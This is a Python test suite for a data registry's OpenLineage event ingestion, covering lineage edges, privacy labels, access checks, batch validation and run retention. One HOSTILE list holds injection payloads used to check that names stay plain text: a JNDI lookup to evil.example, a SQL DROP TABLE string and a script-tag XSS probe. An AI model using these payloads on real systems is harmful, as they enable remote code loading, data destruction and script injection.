"""Events of OpenLineage over HTTP: what jobs state becomes lineage that is there at once, and opens nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from command import hms
from governed import STEWARD
from hms_registry.domain.columns import PrivacyTier
from hms_registry.domain.datasets import DatasetState
from hms_registry.store import forgetting
from lineage_home import ANALYST, PATH, SCHEDULER, Lineage, batch, execute, lineage_home, make_lineage_home
from openlineage_events import TRINO, Event, column_lineage, dataset, kept, run_event, schema

CALLS, BERTHS, PEOPLE, MADE = "port.public.calls", "port.public.berths", "crews.public.people", "port.public.made"
MADE_OF_CALLS = dataset(
    MADE,
    columnLineage=column_lineage({"ship": [(CALLS, "ship")], "tons": [(CALLS, "tons")]}, rows_by=[(CALLS, "berth")]),
    schema=schema("ship", "tons"),
)
MADE_OF_PEOPLE = dataset(
    MADE,
    columnLineage=column_lineage({"ship": [(PEOPLE, "ship")], "who": [(PEOPLE, "ssn")]}),
    schema=schema("ship", "who"),
)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home that each test copies."""
    return make_lineage_home(tmp_path_factory.mktemp("lineage"))


@pytest.fixture
def lineage(template: Path, tmp_path: Path) -> Iterator[Lineage]:
    """A registry of a test's own."""
    with lineage_home(template, tmp_path) as made:
        yield made


def test_lineage_is_there_as_soon_as_the_event_was_taken(lineage: Lineage) -> None:
    """Columns come from columns as they are spelled here, and filters decide about rows."""
    lineage.send(run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS]))

    assert lineage.edges(MADE) == {
        ("derives", CALLS, "ship", "ship"), ("derives", CALLS, "Tons", "tons"), ("derives", CALLS, "berth", None),
    }  # fmt: skip
    told = lineage.tree(MADE)
    assert [node["dataset"] for node in told["nodes"]] == [MADE, CALLS]


def test_an_event_that_comes_twice_writes_nothing_the_second_time(lineage: Lineage) -> None:
    """The epoch stays, so no cached answer is thrown away."""
    event = run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS])
    lineage.send(event)
    before = lineage.epoch()

    lineage.send(event, event)

    assert lineage.epoch() == before


def test_events_may_come_in_any_order(lineage: Lineage) -> None:
    """COMPLETE before START: the run is complete, and began when it began."""
    start = run_event(at="2026-11-21T11:00:00Z", kind="START", inputs=[CALLS])
    complete = run_event(at="2026-11-21T12:00:00Z", inputs=[CALLS], outputs=[MADE_OF_CALLS])

    lineage.send(complete, start)

    (run,) = runs(lineage, STEWARD)
    assert (run["state"], run["started_at"][11:16], run["ended_at"][11:16]) == ("complete", "11:00", "12:00")


def runs(lineage: Lineage, who: str) -> list[dict]:
    """What somebody is told of runs."""
    from hms_registry.services.openlineage.telling import run_fact, runs_seen

    registry = lineage.registry
    with registry.catalogue.unit() as uow:
        seen = runs_seen(uow=uow, principal=registry.principal(who), decisions=registry.decisions(), limit=100)
    return [run_fact(each) for each in seen]


def test_what_a_job_wrote_is_known_and_nobody_reads_it_before_a_crawl_met_it(lineage: Lineage) -> None:
    """It has an address and lineage; SQL, lists and search answer as if it were not there."""
    lineage.send(run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS]))

    assert lineage.dataset(MADE).state is DatasetState.STATED
    listed = lineage.caller.json("/dta/datasets", who=STEWARD)
    assert MADE not in [each["address"] for each in listed["datasets"]]
    assert lineage.caller.json("/dta/search", who=STEWARD, words="made")["total"] == 0
    asked = lineage.caller.send("POST", "/dta/query", who=ANALYST, json={"sql": f"SELECT * FROM {MADE}"})
    assert asked.json()["error"]["code"] == "dataset-not-found"


def test_a_crawl_meets_what_a_job_stated(lineage: Lineage) -> None:
    """One dataset, with its id, its edges and its columns as the store spells them; no twin."""
    lineage.send(run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS]))
    stated = lineage.dataset(MADE)
    execute(lineage.registry.home, "port", 'CREATE TABLE made (ship TEXT, "TONS" REAL)')

    lineage.crawl()

    met = lineage.dataset(MADE)
    assert (met.id, met.state) == (stated.id, DatasetState.PRESENT)
    assert ("derives", CALLS, "Tons", "TONS") in lineage.edges(MADE)
    with lineage.registry.catalogue.unit() as uow:
        assert next(event.kind for event in uow.outbox.since(0) if event.dataset_id == met.id) == "DatasetRegistered"
        assert [str(each.address) for each in uow.datasets.iter(source="port")] == [BERTHS, CALLS, MADE]


def test_a_crawl_meets_what_trino_told_in_lower_case(lineage: Lineage) -> None:
    """The store spells it otherwise: still one dataset, under the name in SQL that it had, and no twin."""
    lineage.send(run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS]))
    stated = lineage.dataset(MADE)
    execute(lineage.registry.home, "port", 'CREATE TABLE "Made" (ship TEXT, tons REAL)')

    lineage.crawl()

    met = lineage.dataset('port.public."Made"')
    assert (met.id, met.state, met.trino_name) == (stated.id, DatasetState.PRESENT, stated.trino_name)
    assert ("derives", CALLS, "ship", "ship") in lineage.edges('port.public."Made"')


def test_what_is_registered_later_finds_the_jobs_that_named_it(lineage: Lineage) -> None:
    """A file that a job read, and the one that it wrote: both are names until a crawl lists them."""
    home = lineage.registry.home
    assert home is not None
    source = dataset(f"{home}/lake/later.csv", namespace="file")
    target = dataset(f"{home}/lake/target.csv", namespace="file")
    lineage.send(run_event(inputs=[source, PEOPLE], outputs=[target]))
    (run,) = runs(lineage, STEWARD)
    assert run["inputs"]["not_registered"] == [f"file {home}/lake/later.csv"]
    for name in ("later", "target"):
        (home / "lake" / f"{name}.csv").write_text("ship,lock\nA,1\n")

    lineage.crawl()

    names = [str(each.address) for each in _lake(lineage)]
    later, made = (
        next(name for name in names if f"{part}.csv" in name or part in name) for part in ("later", "target")
    )
    assert lineage.edges(made) == {("derives", later, None, None), ("derives", PEOPLE, None, None)}
    assert lineage.dataset(made).labels.privacy_tier is PrivacyTier.RESTRICTED


def _lake(lineage: Lineage) -> list:
    with lineage.registry.catalogue.unit() as uow:
        return list(uow.datasets.iter(source="lake"))


def test_a_newer_run_closes_what_it_does_not_state_and_opens_nothing(lineage: Lineage) -> None:
    """Lineage goes by the latest run; labels stay those of all that the job ever read."""
    lineage.send(run_event(run="one", inputs=[PEOPLE], outputs=[MADE_OF_PEOPLE]))
    assert lineage.dataset(MADE).labels.privacy_tier is PrivacyTier.RESTRICTED

    lineage.send(run_event(at="2026-11-21T13:00:00Z", run="two", inputs=[CALLS], outputs=[MADE_OF_CALLS]))

    assert [node["dataset"] for node in lineage.tree(MADE)["nodes"]] == [MADE, CALLS]
    assert ("derived", PEOPLE, "ssn", "who") in lineage.edges(MADE) or (
        "derived", PEOPLE, "ssn", None) in lineage.edges(MADE)  # fmt: skip
    assert lineage.dataset(MADE).labels.privacy_tier is PrivacyTier.RESTRICTED


def test_an_older_run_that_is_told_late_changes_no_lineage(lineage: Lineage) -> None:
    """It is past already; its labels follow."""
    newer = run_event(at="2026-11-21T13:00:00Z", run="two", inputs=[CALLS], outputs=[MADE_OF_CALLS])
    lineage.send(newer, run_event(run="one", inputs=[BERTHS], outputs=[MADE]))

    assert [node["dataset"] for node in lineage.tree(MADE)["nodes"]] == [MADE, CALLS]
    assert ("derived", BERTHS, None, None) in lineage.edges(MADE)


def test_two_jobs_that_write_one_dataset_both_stand_until_one_makes_it_anew(lineage: Lineage) -> None:
    """An insert adds to what is there; a table that is overwritten holds nothing of what was."""
    lineage.send(
        run_event(job="a", inputs=[CALLS], outputs=[MADE]), run_event(job="b", inputs=[BERTHS], outputs=[MADE])
    )
    assert {kind for kind, *_ in lineage.edges(MADE)} == {"derives"}
    anew = dataset(MADE, lifecycleStateChange={"lifecycleStateChange": "OVERWRITE"})

    lineage.send(run_event(at="2026-11-21T13:00:00Z", job="c", inputs=[PEOPLE], outputs=[anew]))

    assert lineage.edges(MADE) == {
        ("derived", CALLS, None, None), ("derived", BERTHS, None, None), ("derives", PEOPLE, None, None),
    }  # fmt: skip


def test_labels_follow_to_what_a_job_wrote(lineage: Lineage) -> None:
    """What comes from restricted columns is restricted, whatever the source of the target says."""
    before = lineage.dataset(BERTHS).labels.privacy_tier
    lineage.send(run_event(inputs=[PEOPLE], outputs=[BERTHS]))

    assert (before, lineage.dataset(BERTHS).labels.privacy_tier) == (PrivacyTier.PUBLIC, PrivacyTier.RESTRICTED)
    assert lineage.caller.get(f"/dta/datasets/{BERTHS}", who=ANALYST).status_code == 404


def test_a_run_is_told_to_who_may_find_one_of_its_datasets_with_the_others_as_a_number(lineage: Lineage) -> None:
    """Ana finds what is public; SQL and errors are for who may read all of it unmasked."""
    lineage.send(
        run_event(
            kind="FAIL",
            inputs=[CALLS, PEOPLE, dataset("secret/path.csv", namespace="gs://bucket")],
            job_facets={"sql": {"query": "SELECT 'canary-78'"}, "jobType": {"jobType": "QUERY"}},
            run_facets={"errorMessage": {"message": "canary-78 is no number", "programmingLanguage": "JAVA"}},
        ),
        run_event(run="hidden", inputs=[PEOPLE]),
        run_event(run="open", inputs=[CALLS], job_facets={"sql": {"query": "SELECT 1"}}),
    )

    told = {each["run_id"]: each for each in runs(lineage, ANALYST)}
    first = told["018f0000-0000-7000-8000-000000000001"]

    assert set(told) == {"018f0000-0000-7000-8000-000000000001", "open"}
    assert first["inputs"] == {"datasets": [CALLS], "not_registered": [], "restricted": 2}
    assert "canary" not in json.dumps(first) and "secret" not in json.dumps(first)
    assert told["open"]["facts"] == {"sql": {"query": "SELECT 1"}}
    assert len(runs(lineage, STEWARD)) == 3


def test_the_command_line_tells_of_runs_and_jobs(lineage: Lineage) -> None:
    """The same as the service, to whom it may be told."""
    lineage.send(run_event(inputs=[CALLS, PEOPLE], outputs=[MADE_OF_CALLS]), run_event(run="two", inputs=[PEOPLE]))
    home = lineage.registry.home
    assert home is not None

    told = hms(home, "runs", MADE, "--as", STEWARD, "--json").json
    whole = hms(home, "runs", "--run", "018f0000-0000-7000-8000-000000000001", "--as", ANALYST)

    assert isinstance(told, dict)
    assert told["runs"] == [each for each in runs(lineage, STEWARD) if each["run_id"] != "two"]
    assert f"read: {CALLS}, 1 restricted" in whole.out
    assert hms(home, "jobs", "--as", ANALYST, "--json").json["jobs"][0]["runs"] == 1
    assert hms(home, "runs", "--job", "scheduler/load", "--as", STEWARD, "--json").json == {
        "runs": runs(lineage, STEWARD)
    }
    assert hms(home, "runs", "--job", "load").code == 2


def test_only_who_has_a_role_of_the_settings_may_send(lineage: Lineage) -> None:
    """Nobody and a stranger to the section are refused, before anything is read of what they sent."""
    refused = [
        lineage.caller.send("POST", path, who=who, content=b"{")
        for path in (PATH, f"{PATH}/batch")
        for who in ("", ANALYST)
    ]

    assert [answer.status_code for answer in refused] == [401, 403, 401, 403]
    assert lineage.caller.send("POST", PATH, who=SCHEDULER, content=b"{").json()["error"]["code"] == "event-invalid"


def test_of_a_batch_what_is_no_event_is_told_and_the_rest_stands(lineage: Lineage) -> None:
    """The answer is that of the specification."""
    good = run_event(inputs=[CALLS], outputs=[MADE_OF_CALLS])

    answer = lineage.caller.send("POST", f"{PATH}/batch", who=SCHEDULER, content=batch([good, {}, {**good, "run": 1}]))

    assert (answer.status_code, answer.json()) == (
        200,
        {
            "status": "partial_success",
            "summary": {"received": 3, "successful": 1, "failed": 2, "retriable": 0, "non_retriable": 2},
            "failed_events": [
                {"index": 1, "reason": "eventTime: it is missing", "retriable": False},
                {"index": 2, "reason": "run: it is not an object", "retriable": False},
            ],
        },
    )
    assert lineage.edges(MADE)


@pytest.mark.parametrize(
    ("path", "body", "message"),
    [
        (f"{PATH}/batch", b"{}", "the body is not an array"),
        (f"{PATH}/batch", batch([{}] * 501), "the batch holds more than 500 events"),
        (PATH, b"[" * 100_000, "the body is not JSON"),
        (PATH, b"[]", "the event: it is not an object"),
    ],
)
def test_what_is_no_event_is_a_bad_request(lineage: Lineage, path: str, body: bytes, message: str) -> None:
    """Told by its field, and nothing is kept."""
    before = lineage.epoch()

    answer = lineage.caller.send("POST", path, who=SCHEDULER, content=body)

    assert (answer.status_code, answer.json()["error"]["message"], lineage.epoch()) == (400, message, before)


def test_a_body_is_bounded_and_one_of_a_few_megabytes_is_not_too_long(lineage: Lineage) -> None:
    """Spark sends the whole plan of a job."""
    facets = {"spark.logicalPlan": {"plan": "x" * (1 << 20)}}

    lineage.send(run_event(inputs=[CALLS], run_facets=facets))
    answer = lineage.caller.send("POST", PATH, who=SCHEDULER, content=b" " * ((4 << 20) + 1))

    assert answer.status_code == 413


def test_old_runs_are_forgotten_and_what_they_stated_is_not(lineage: Lineage, monkeypatch: pytest.MonkeyPatch) -> None:
    """Trino makes a job of every query: the oldest go, with their jobs, and lineage and labels stay."""
    monkeypatch.setattr(forgetting, "MAX_RUNS", 3)
    sources = [CALLS, BERTHS, PEOPLE]
    for number in range(6):
        at = f"2026-11-21T12:0{number}:00Z"
        lineage.send(
            run_event(at=at, job=f"query {number}", run=f"run {number}", inputs=[sources[number % 3]], outputs=[MADE])
        )

    assert {each["run_id"] for each in runs(lineage, STEWARD)} == {"run 3", "run 4", "run 5"}
    for number in range(6, 9):
        lineage.send(run_event(at="2026-11-21T13:00:00Z", job="other", run=f"run {number}", inputs=[CALLS]))
    assert lineage.edges(MADE) == {("derives", name, None, None) for name in sources}
    assert lineage.dataset(MADE).labels.privacy_tier is PrivacyTier.RESTRICTED


def test_a_job_keeps_its_latest_runs(lineage: Lineage, monkeypatch: pytest.MonkeyPatch) -> None:
    """However often it runs."""
    monkeypatch.setattr(forgetting, "MAX_RUNS_OF_JOB", 2)
    lineage.send(*(run_event(at=f"2026-11-21T12:0{n}:00Z", run=f"run {n}", inputs=[CALLS]) for n in range(5)))

    assert {each["run_id"] for each in runs(lineage, STEWARD)} == {"run 3", "run 4"}


HOSTILE = [
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE runs;--",
    "<script>alert(1)</script>",
    "%_*?[",
    "\u202eabc",
    "a.b" * 500,
]


def test_names_are_text_whatever_they_look_like(lineage: Lineage) -> None:
    """They come back byte for byte, and stand for nothing but themselves."""
    events = [
        run_event(
            run=name, job=name, inputs=[CALLS, dataset(name, namespace=name)], outputs=[dataset(name, namespace=name)]
        )
        for name in HOSTILE
    ]

    lineage.send(*events)

    found = {each["run_id"]: each for each in runs(lineage, STEWARD)}
    assert set(found) == set(HOSTILE)
    assert all(found[name]["outputs"]["not_registered"] == [f"{name} {name}"] for name in HOSTILE)


def test_all_that_real_producers_sent_is_taken(lineage: Lineage) -> None:
    """In any number of batches; a second time nothing of it is new."""
    every: list[Event] = [event for producer in ("airflow", "spark", "simple") for event in kept(producer)]

    first = lineage.caller.send("POST", f"{PATH}/batch", who=SCHEDULER, content=batch(every))
    before = lineage.epoch()
    lineage.send(*reversed(every))

    assert first.json()["summary"]["successful"] == len(every) == 42
    assert lineage.epoch() == before


def test_the_columns_of_a_run_without_columns_take_every_label(lineage: Lineage) -> None:
    """A job that tells no columns may have put any into any: an unknown origin, and never an open one."""
    lineage.send(run_event(inputs=[PEOPLE], outputs=[BERTHS]))

    labels = lineage.dataset(BERTHS).labels
    assert labels.has_unknown_origin or {column.privacy_tier for _, column in labels.columns} == {
        PrivacyTier.RESTRICTED
    }


def test_a_symlink_names_what_the_name_does_not(lineage: Lineage) -> None:
    """Spark names a table by its folder, and the table beside it."""
    by_folder = dataset(
        "/warehouse/made",
        namespace="file",
        symlinks={"identifiers": [{"namespace": TRINO, "name": CALLS, "type": "TABLE"}]},
    )

    lineage.send(run_event(inputs=[by_folder], outputs=[BERTHS]))

    assert ("derives", CALLS, None, None) in lineage.edges(BERTHS)
